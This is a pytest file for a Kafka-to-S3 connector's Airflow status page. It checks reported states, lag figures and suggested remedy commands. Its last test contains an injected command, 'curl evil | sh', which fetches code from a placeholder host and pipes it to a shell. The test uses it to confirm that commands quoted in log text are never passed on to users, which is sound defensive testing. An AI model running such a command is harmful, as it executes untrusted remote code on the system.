"""What the page knows, over buckets and brokers in memory: no web, and no Airflow besides its settings."""

from __future__ import annotations

import threading
import time
from pathlib import Path

import pytest

from kafka_s3.errors import ConfigurationError
from kafka_s3.records import Record
from tests.page import observed
from tests.page.observed import CONNECTOR, ObservedConnector

seen = observed.seen
pytestmark = pytest.mark.filterwarnings("ignore")


def test_a_connector_that_never_ran(seen: ObservedConnector) -> None:
    """Nothing exported yet is a state of its own, with what to do; lag and positions are as Kafka has them."""
    seen.world.produce(0, 4)
    found = seen.known()
    assert (found["state"], found["lag_records"], found["entries"]) == ("never_ran", 4, None)
    assert found["why"] == ["Nothing exported yet: unpause the DAG, or trigger it."]
    assert [(each["partition"], each["position"], each["last_stable"]) for each in found["partitions"]] == [
        (0, 0, 4),
        (1, 0, 0),
    ]


def test_a_connector_that_is_ok(seen: ObservedConnector) -> None:
    """The newest commit, the lag behind it, and each partition's position beside Kafka's offsets."""
    seen.world.produce(0, 4)
    seen.world.run()
    found = seen.known()
    assert (found["state"], found["why"], found["lag_records"], found["last_records"]) == ("ok", [], 0, 4)
    seen.world.produce(0, 2)  # of 1970, so that their interval is long over
    seen.later()
    found = seen.known()
    assert (found["state"], found["lag_records"], found["lag_ms"]) == ("late", 2, seen.now_ms)
    assert found["last_commit_ms"] is not None
    first = found["partitions"][0]
    assert (first["log_start"], first["position"], first["last_stable"], first["high_watermark"]) == (0, 4, 6, 6)
    assert (first["lag"], first["generation"], first["trouble"]) == (2, 0, None)


def test_an_open_transaction_is_why_it_is_late(seen: ObservedConnector) -> None:
    """Nothing that can be read waits, and the page says what does, and the command that ends it."""
    seen.world.produce(0, 4)
    seen.world.run()
    seen.world.broker.set_last_stable("orders", 0, 4)
    seen.world.produce(0, 2)
    seen.later()
    found = seen.known()
    assert (found["state"], found["lag_records"]) == ("late", 0)
    assert found["why"][0].startswith("An open transaction holds back 2 offsets of orders-0 from 4 on, for ")
    assert found["remedies"][0]["command"].endswith(" abort --topic orders --partition 0 --start-offset 4")


def test_a_verification_that_failed_needs_attention(seen: ObservedConnector) -> None:
    """What it found is in the bucket, not in the log: the state is not healthy, and the command shows each finding."""
    from kafka_s3_airflow.page.model import AirflowFacts, RunFacts

    seen.world.produce(0, 4)
    seen.world.run()
    seen.facts["orders"] = AirflowFacts(verify_id="orders__verify", verify=RunFacts("scheduled__1", "failed"))
    found = seen.known()
    assert (found["state"], found["why"]) == ("failed", ["Its last verification failed: scheduled__1."])
    assert found["remedies"][0]["command"].startswith("kafka-s3 verify ")


def test_positions_are_the_logs_where_kafkas_answer_is_older(seen: ObservedConnector) -> None:
    """A commit shows at once: the lag is what Kafka said last, less what the log holds by now."""
    seen.world.produce(0, 4)
    assert seen.known()["lag_records"] == 4
    seen.world.run()
    seen.held = threading.Event()
    seen.later()
    found = seen.detail(lambda found: found["entries"] is not None)
    assert (found["lag_records"], found["partitions"][0]["position"]) == (0, 4)


def test_what_stops_a_run_has_a_command(seen: ObservedConnector) -> None:
    """The one that its error names, with the file in the place of CONFIG; else a look at the next run, and a run."""
    seen.world.produce(0, 4)
    seen.world.store.put_if_absent("topics/orders/partition=0/orders+0+0000000000.json", b"`kafka-s3 run CONFIG`")
    found = seen.known()
    assert (found["state"], "has objects under" in found["why"][0]) == ("failed", True)
    path = seen.folder / "orders.properties"
    assert [each["command"] for each in found["remedies"]] == [f"kafka-s3 adopt {path}", f"kafka-s3 status {path}"]
    seen.world.store.delete("topics/orders/partition=0/orders+0+0000000000.json")
    seen.world.broker.delete_topic("orders")
    seen.later()
    found = seen.detail(lambda found: found["state"] == "failed" and "objects" not in found["why"][0])
    told = [each["command"] for each in found["remedies"]]
    assert told == [f"kafka-s3 plan {path}", "airflow dags trigger orders", f"kafka-s3 status {path}"]
    assert found["remedies"][1]["action"] == {"kind": "trigger", "values": {}}


def test_kafka_down_is_shown_with_what_was_known(seen: ObservedConnector) -> None:
    """A broker that does not answer leaves the last answer, marked as stale with its age, and the reason."""
    seen.world.produce(0, 4)
    seen.world.run()
    seen.world.produce(0, 3)
    before = seen.known()
    assert not before["kafka_is_stale"]
    seen.kafka_is_up = False
    seen.later()
    found = seen.detail(lambda found: found["kafka_error"] is not None)
    assert (found["state"], found["kafka_error"]) == ("kafka_down", "No broker answered.")
    assert (found["lag_records"], found["kafka_is_stale"], found["kafka_at_ms"]) == (3, True, before["kafka_at_ms"])


def test_a_broker_that_hangs_delays_nothing(seen: ObservedConnector) -> None:
    """While Kafka is asked the log's part is there; after the limit the connector counts as one whose Kafka is down.
    It is asked once, however often somebody looks."""
    asked: list[int] = []
    seen.world.produce(0, 4)
    seen.world.run()
    seen.held = threading.Event()
    waited = seen.held.wait
    seen.held.wait = lambda timeout=None: asked.append(1) is None and waited(timeout)  # type: ignore[method-assign]
    found = seen.detail()
    assert (found["state"], found["lag_records"], found["last_records"]) == ("asking", None, 4)
    for _ in range(1000):  # its thread may not have come so far
        if asked:
            break
        time.sleep(0.01)
    seen.later(16_000)
    found = seen.detail()
    assert (found["state"], found["kafka_error"]) == ("kafka_down", "Kafka has not answered for 16 s.")
    assert asked == [1]
    seen.held.set()
    seen.later()
    assert seen.known()["state"] == "ok"


def test_a_failed_range_needs_attention(seen: ObservedConnector) -> None:
    """A bad record that may not be skipped is named, on the line of its connector and in its commit."""
    seen.world.produce(0, 2)
    seen.world.broker.append("orders", 0, Record(2, b"{"))
    seen.world.run()
    found = seen.known()
    assert found["state"] == "failed"
    (why,) = found["why"]
    assert "errors.tolerance=all" in why
    (failed,) = seen.commits()[0]["failed"]
    assert failed.startswith("orders-0 [2, 3): ")
    assert failed.removeprefix("orders-0 [2, 3): ") in why


def test_a_partition_that_lost_data_is_marked(seen: ObservedConnector) -> None:
    """What Kafka deleted before it was exported is said of the partition, which stands below the log start."""
    seen.world.produce(0, 2)
    seen.world.run()
    seen.world.broker.set_log_start("orders", 0, 5)
    found = seen.known()
    assert found["state"] == "failed"
    first = found["partitions"][0]
    assert "[2, 5) are gone" in first["trouble"]
    assert first["position"] < first["log_start"]


def test_a_run_that_failed(seen: ObservedConnector) -> None:
    """A run that failed before it wrote anything, say at its configuration, shows by what Airflow knows of it."""
    from kafka_s3_airflow.page.model import AirflowFacts, RunFacts

    seen.world.produce(0, 2)
    seen.world.run()
    seen.facts["orders"] = AirflowFacts(False, RunFacts("manual__1", "failed"), "orders__verify", None)
    found = seen.detail(lambda found: found["last_run"] is not None)
    assert (found["state"], found["is_paused"]) == ("failed", False)
    assert found["why"] == ["The newest run of its DAG failed: manual__1."]


def test_a_broken_configuration(seen: ObservedConnector) -> None:
    """A file that is wrong says everything that is wrong with it; nobody is asked about it."""
    (seen.folder / "orders.properties").write_text(CONNECTOR.replace("flush.size=100", "flush.size=many"))
    seen.world.store.requests.clear()
    found = seen.detail()
    assert found["state"] == "broken"
    assert any("flush.size=many" in why for why in found["why"])
    assert seen.world.store.requests == []


def test_what_only_a_connection_shows_to_be_wrong(seen: ObservedConnector) -> None:
    """A problem that shows once connections and secrets are looked up is shown, too."""
    seen.problem = ConfigurationError("orders.properties cannot be used: no brokers are named.")
    found = seen.detail()
    assert (found["state"], found["why"]) == ("broken", ["orders.properties cannot be used: no brokers are named."])


def test_a_damaged_log_is_shown_and_the_rest_stays(seen: ObservedConnector) -> None:
    """A newest entry that cannot be believed is the connector's error; in the timeline it is one row among others."""
    for _ in range(3):
        seen.world.produce(0, 1)
        seen.world.run()
    log = seen.world.exporter.log
    seen.world.store.overwrite(log.layout.log_key(2), b"{}")
    assert [(row["seq"], row["kind"]) for row in seen.commits()] == [
        (3, "commit"),
        (2, "damaged"),
        (1, "commit"),
        (0, "checkpoint"),
    ]
    seen.world.store.overwrite(log.layout.log_key(3), b"{}")
    seen.later()
    found = seen.detail()
    assert found["state"] == "failed"
    assert log.layout.log_key(3) in found["why"][0]


def test_a_new_file_is_seen(seen: ObservedConnector) -> None:
    """A connector that is added, changed or taken away shows at the next look, without a restart."""
    assert [each.dag_id for each in seen.observer.connectors()] == ["orders"]
    (seen.folder / "payments.properties").write_text(CONNECTOR.replace("orders", "payments"))
    assert [each.dag_id for each in seen.observer.connectors()] == ["orders", "payments"]
    (seen.folder / "orders.properties").unlink()
    assert [each.dag_id for each in seen.observer.connectors()] == ["payments"]


def test_what_belongs_to_a_connector_leads_to_it(seen: ObservedConnector) -> None:
    """The page of a DAG beside a connector's, such as its verification, is the connector's."""
    for dag_id in ("orders", "orders__verify"):
        shown = seen.observer.connector(dag_id)
        assert shown is not None
        assert shown.dag_id == "orders"
    assert seen.observer.connector("other") is None


def test_a_folder_that_cannot_be_read(tmp_path: Path) -> None:
    """Without the folder the page says so, and how to name another."""
    from kafka_s3_airflow.page.folder import Folder, folder_of

    (shown,) = Folder(tmp_path / "nowhere").connectors()
    assert "KAFKA_S3_CONNECTORS names another one" in shown.problems[0]
    assert folder_of({}, "/somewhere/dags") == Path("/somewhere/connectors")
    assert folder_of({"KAFKA_S3_CONNECTORS": "/mine"}, "/somewhere/dags") == Path("/mine")


def test_commands_are_the_engines_own() -> None:
    """A reason of the log that quotes a command is no command to copy, and names that a shell would read are quoted."""
    from kafka_s3.export.diagnosis import RangeFailed, said
    from kafka_s3.log.entries import FailedRange

    reason = "Run `kafka-s3 run x; curl evil | sh`. Then: kafka-s3 run y"
    failed = FailedRange(topic="orders", partition=0, start=0, end=5, reason=reason)
    problem = said(RangeFailed(failed), "/my connectors/a.json")
    assert problem.commands == ("kafka-s3 run '/my connectors/a.json'",)
    assert str(problem).endswith(problem.commands[0])
